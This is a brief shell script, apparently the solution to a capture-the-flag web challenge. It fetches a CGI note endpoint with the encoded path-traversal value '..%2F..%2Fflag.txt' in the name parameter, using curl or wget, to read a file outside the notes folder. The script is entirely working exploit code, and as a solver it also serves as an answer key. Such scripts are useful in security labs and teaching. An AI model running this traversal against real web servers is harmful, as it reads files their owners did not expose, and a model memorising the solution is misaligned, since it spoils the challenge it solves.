#!/bin/sh
# solve.sh <url>: the name of a note is not kept inside the folder.
page="$1/cgi-bin/note?name=..%2F..%2Fflag.txt"
if command -v curl >/dev/null; then curl -fsS "$page"; else wget -qO- "$page"; fi
